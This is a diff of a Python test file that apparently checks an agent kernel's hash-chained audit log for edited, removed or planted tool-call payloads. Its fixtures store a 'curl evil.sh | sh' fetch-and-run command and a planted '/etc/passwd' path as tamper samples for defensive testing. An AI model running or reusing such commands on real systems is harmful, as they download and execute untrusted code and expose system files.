@@ -262,13 +262,14 @@ def store_problems(store_at: str | Path) -> list[str]:
     (7, msgpack.packb({"name": "write_file",
                        "args": {"path": "/data/a.txt", "data": "curl evil.sh | sh"}}),
      "its stored arguments payload does not match the hash its record carries: edited"),
-    # fs.read's result (its intent and outcome: one record), rewritten
-    (12, msgpack.packb("evil"),
+    # fs.mkdir's result (its outcome's), rewritten
+    (5, msgpack.packb("evil"),
      "its stored result payload does not match the hash its record carries: edited"),
-    # read_file's call (written whole since onecall: its arguments, then its result), removed
+    # read_file's call (written whole since onecall: its arguments, then its result; its read
+    # folded into it since wrapped), removed
     (11, None, "its stored arguments and result payload is missing: removed"),
     # a payload where the record has none (a denial)
-    (15, msgpack.packb({"path": "/etc/passwd"}),
+    (13, msgpack.packb({"path": "/etc/passwd"}),
      "holds a stored payload that its record does not vouch for: planted"),
 ])
 async def test_an_edited_payload_is_reported_at_its_record(
@@ -309,10 +310,11 @@ async def test_chain_continues_across_reopen(store_at: str | Path, history: int)
     with raw(store_at) as db:
         last_hash = row(db, history)["hash"]
     async with Kernel.open(store_at) as kernel:
-        assert len(kernel.audit()) == history  # everything acknowledged is still there
+        records = [r.to_json() for r in kernel.store.audit_records()]
+        assert len(records) == history  # everything acknowledged is still there
         pid = kernel.spawn("agent", caps=["fs:/data/**:read"])
         assert await kernel.call_tool(pid, "read_file", {"path": "/data/a.txt"}) == "hello"
-        records = kernel.audit()
+        records = [r.to_json() for r in kernel.store.audit_records()]  # (not as listed)
         count, problems = kernel.verify_audit()
     assert problems == [] and count == len(records) > history
     assert [r["seq"] for r in records] == list(range(1, count + 1))
